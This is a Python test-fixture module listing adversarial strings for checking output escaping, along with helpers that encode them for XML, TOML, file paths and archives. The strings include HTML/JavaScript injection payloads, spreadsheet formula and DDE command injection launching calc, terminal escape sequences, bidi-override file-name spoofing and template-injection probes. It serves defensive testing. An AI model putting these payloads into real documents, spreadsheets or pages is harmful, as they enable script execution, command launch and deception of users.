"""Text that tries to be more than text, by what it would be taken for, and how much of it each kind of file can hold."""

from collections.abc import Mapping
from types import MappingProxyType

LONG = 10_000
"""Letters without a place to break a line at."""
RAN = "document.title='ran'"
"""What every script in here would do: a page that is called otherwise proves that none did."""

TEXTS: Mapping[str, str] = MappingProxyType(
    {
        "script": f"<script>{RAN}</script>",
        "end of a script": f"</script><script>{RAN}</script>",
        "end of a style, a title and a box": f"</style></title></textarea></select></table><img src=x onerror={RAN}>",
        "end of an attribute": f'" onmouseover="{RAN}" autofocus onfocus=\'{RAN}\' x=`',
        "comment": f"--><!--><svg/onload={RAN}>]]>",
        "entity": "&lt;b&gt;&amp;&#60;i&#62;&nbsp;&quot",
        "address": f"javascript:{RAN}",
        "template": "{{7*7}}{% raw %}${7*7}#{7*7}%(x)s%s{0}",
        "Markdown": f"[x](javascript:{RAN}) ![x](http://example.invalid/a.png) | `a` **b** <http://example.invalid> # c",
        "rich": "[bold red]x[/] :boom: [link=http://example.invalid]y[/link]",
        "HYPERLINK": '=HYPERLINK("http://example.invalid/?"&A1,"open me")',
        "command": "+cmd|'/C calc'!A0",
        "minus": "-2+3+cmd|'/C calc'!A0",
        "SUM": "@SUM(1+1)*cmd|'/C calc'!A0",
        "formula after a separator": "a;=1+1;@SUM(1)\t=2+2|=3+3",
        "formula after a quotation mark": 'a";=1+1;",=2+2,"',
        "formula after a blank": "\t =1+1",
        "colour": "\x1b[31mred\x1b[0m\x1b[2J\x1b[1A\x1b[2K",
        "link of a terminal": "\x1b]8;;http://example.invalid\x1b\\here\x1b]8;;\x1b\\",
        "title of a terminal": "\x1b]0;owned\x07\x1bP1;1|x\x1b\\\x1b_x\x1b\\",
        "C1": "\x9b31mred\x9d0;owned\x9c\x85next\x90x\x9c",
        "C0": "a\bb\x7fc\x0cd\x0be\x1cf\rg\nh",
        "NUL": "before\x00after",
        "override": "\u202egnp.exe\u202c \u202dabc\u2066d\u2067e\u2068f\u2069",
        "marks": "a\u200eb\u200fc\u061cd\ufeffe\u200bf",
        "separators": "a\u2028b\u2029c",
        "surrogate": "a\udcffb",
        "combining": "a" + "\u0301" * 50 + " \U000e0041\U000e007f",
        "long": "W" * LONG,
        "long with blanks": "many words " * (LONG // 11),
    }
)
"""What it would be taken for -> the text."""


def in_xml(text: str) -> str:
    """As an attribute or an element may hold it: of the controls XML has none but white space."""
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;").replace(">", "&gt;")
    return "".join(letter for letter in escaped if (letter >= " " or letter in "\t\r\n") and not "\ud800" <= letter <= "\udfff")


def in_fit(text: str, width: int = 250) -> bytes:
    """A string field of `width` bytes; letters behind a NUL stay in the file, as watches leave them there."""
    return text.encode("utf-8", "surrogateescape")[: width - 1].ljust(width, b"\0")


def in_toml(text: str) -> str:
    """A basic string, quotation marks included. TOML knows no lone surrogates."""
    plain = text.replace("\udcff", "\ufffd")
    return (
        '"'
        + "".join(letter if " " <= letter <= "~" and letter not in '"\\' else f"\\U{ord(letter):08x}" for letter in plain)
        + '"'
    )


def in_path(text: str) -> str:
    """As the name of a file or a folder, of 200 bytes at most."""
    kept = text.replace("/", "\N{FRACTION SLASH}").replace("\0", "").lstrip(".")
    return kept.encode("utf-8", "surrogateescape")[:200].decode("utf-8", "surrogateescape")


def in_zip(text: str) -> str:
    """The same as a member of an archive, which has no lone surrogates."""
    return in_path(text).encode("utf-8", "replace").decode()
